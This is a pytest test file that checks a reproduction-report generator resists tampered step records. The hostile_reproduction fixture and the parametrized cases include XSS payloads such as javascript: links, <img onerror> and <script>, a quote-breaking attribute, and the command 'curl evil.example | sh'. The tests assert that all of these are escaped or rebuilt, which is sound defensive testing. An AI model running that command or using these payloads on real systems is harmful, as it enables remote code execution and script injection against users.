"""The report from untrusted step records and results (issue 16, kind 4).

A step record's link never becomes a non-relative href (``javascript:`` above
all); its rerun command is rebuilt from the plan, never copied from the file;
report.md escapes HTML exactly as report.html does, and text cannot form a
markdown link.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import partials
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import escape

from dropout_lab.core.atomic import sha256_file
from dropout_lab.reproduce import report


@pytest.mark.parametrize("link, shown", [
    ("../../compare/20261204-000000-abcdef", "../../compare/20261204-000000-abcdef"),
    ("javascript:alert(1)", "#"),
    ("JavaScript:alert(1)", "#"),
    (" javascript:alert(1)", "#"),
    ("java\tscript:alert(1)", "#"),
    ("data:text/html,<script>", "#"),
    ("https://example.com/x", "#"),
    ("//example.com/x", "#"),
    ("/etc/passwd", "#"),
    ("\\\\server\\share", "#"),
    ("a b(c)", "a%20b%28c%29"),
    ("x\"onmouseover=\"alert(1)", "x%22onmouseover%3D%22alert%281%29"),
])
def test_href_is_a_relative_path_or_nothing(link, shown):
    assert report.href(link) == shown


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_href_never_carries_a_scheme_or_a_quote(link):
    shown = report.href(link)
    assert shown == "#" or not re.match(r"\s*[A-Za-z][A-Za-z0-9+.-]*:", shown)
    assert not any(c in shown for c in "\"'<> \n\t") and not shown.startswith(("/", "\\"))


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_markdown_text_escapes_html_exactly_as_the_html_report(text):
    shown = str(report.markdown_text(text))
    assert shown == str(escape(text)).replace("\r", " ").replace("\n", " ").replace("](", "]\\(")
    assert "<" not in shown and ">" not in shown and "\n" not in shown and "](" not in shown


@pytest.fixture
def hostile_reproduction(cli, out):
    """An interrupted reproduction whose step record and step result were tampered with."""
    partial = partials.reproduce_partial(out)
    record = partial / "steps" / "compare.json"
    data = json.loads(record.read_text())
    data.update(link="javascript:alert(1)", rerun="curl evil.example | sh",
                wall_seconds=-5, claims=["C99"])
    record.write_text(json.dumps(data))
    run = Path(data["run_dir"])
    results = json.loads((run / "results.json").read_text())
    results["verdicts"][0]["evidence"] = ("<img src=x onerror=alert(1)> & "
                                          "[click](javascript:alert(2))\n# heading")
    results["verdicts"][0]["statement"] = "<script>alert(3)</script> | cell"
    (run / "results.json").write_text(json.dumps(results))
    manifest = json.loads((run / "manifest.json").read_text())
    manifest["files"]["results.json"] = sha256_file(run / "results.json")
    (run / "manifest.json").write_text(json.dumps(manifest))
    finished = cli.json("reproduce", "--resume", partial, "--quiet")
    assert Path(finished["steps"][0]["run_dir"]) == run  # the same work: reused
    return finished, results["verdicts"][0]


def test_a_step_records_link_and_rerun_are_rebuilt_not_copied(hostile_reproduction, out):
    data, _ = hostile_reproduction
    run_dir = Path(data["run_dir"])
    html = (run_dir / "report.html").read_text()
    markdown = (run_dir / "report.md").read_text()
    step = data["steps"][0]
    assert step["link"] == f"../../compare/{Path(step['run_dir']).name}"
    assert step["rerun"] == (f"dropout-lab compare --config {run_dir / 'configs' / 'compare.toml'}"
                             f" --out {out}")
    assert step["claims"] == ["C1"] and step["wall_seconds"] == 0.0
    assert 'href="javascript' not in html and "](javascript" not in markdown
    assert "curl evil.example" not in html and "curl evil.example" not in markdown
    assert not re.search(r'href="(?!#|\.\./)', html)  # every href: an anchor or a relative path
    assert not re.search(r"\]\((?!\.\./|figures/)", markdown)  # and every markdown link


def test_report_md_escapes_html_as_report_html_does(hostile_reproduction):
    data, verdict = hostile_reproduction
    run_dir = Path(data["run_dir"])
    html = (run_dir / "report.html").read_text()
    markdown = (run_dir / "report.md").read_text()
    for raw in ("<img src=x", "<script>"):
        assert raw not in html and raw not in markdown
    evidence = str(escape(verdict["evidence"]))
    assert evidence in html  # the same escaping in both reports
    assert evidence.replace("\n", " ").replace("](", "]\\(") in markdown
    assert "[click](javascript" not in markdown and "\n# heading" not in markdown
    assert "&lt;script&gt;alert(3)&lt;/script&gt; \\| cell" in markdown  # one cell, escaped
